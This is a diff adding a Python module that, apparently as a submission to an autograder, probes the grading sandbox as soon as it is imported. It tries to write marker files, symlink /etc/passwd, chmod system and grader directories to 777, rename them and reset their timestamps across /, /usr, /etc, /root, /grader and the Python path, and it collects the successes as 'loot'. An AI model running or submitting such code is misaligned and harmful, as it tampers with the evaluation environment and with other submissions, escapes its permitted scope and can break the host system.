@@ -1,0 +1,25 @@
+"""Writes wherever the grader or the next submission might read."""
+
+import os
+import sys
+
+_found = []
+_places = ["/", "/usr", "/etc", "/home", "/root", "/grader", "/grader/grader", "/grader/npfl139", "/dev", "/dev/shm", sys.prefix, os.path.dirname(os.__file__), *sys.path]
+for _place in _places:
+    for _act in (
+        lambda place: open(f"{place}/attack-marker", "w").close(),
+        lambda place: os.mkdir(f"{place}/attack-marker-folder"),
+        lambda place: os.symlink("/etc/passwd", f"{place}/attack-marker-link"),
+        lambda place: os.chmod(place, 0o777),
+        lambda place: os.rename(place, f"{place}-attack-marker"),
+        lambda place: os.utime(place, (0, 0)),
+    ):
+        try:
+            _act(_place)
+            _found.append(_place)
+        except OSError:
+            pass
+
+
+def attack_loot():
+    return _found
